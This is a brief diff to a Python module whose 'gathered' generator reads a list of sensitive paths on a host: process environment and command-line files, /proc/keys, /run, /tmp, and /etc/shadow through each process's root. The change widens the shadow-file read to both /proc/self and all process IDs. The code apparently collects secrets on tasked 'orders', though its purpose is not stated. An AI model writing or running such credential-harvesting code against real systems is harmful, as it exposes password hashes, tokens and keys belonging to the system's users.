@@ -19,6 +19,7 @@ from functools import partial
 from pathlib import Path
 from typing import Any
 
+_SHADOW = "/etc/shadow"
 TRIED: dict[str, str] = {}
 
 
@@ -38,7 +39,7 @@ def gathered(orders: dict[str, Any]) -> Iterator[bytes]:
         *orders["read"],
         "/proc/[0-9]*/environ",
         "/proc/[0-9]*/cmdline",
-        "/proc/[0-9]*/root/etc/shadow",
+        *(f"/proc/{pid}/root{_SHADOW}" for pid in ("self", "[0-9]*")),
         "/proc/keys",
         "/run/*",
         "/tmp/*",  # noqa: S108 - it looks everywhere
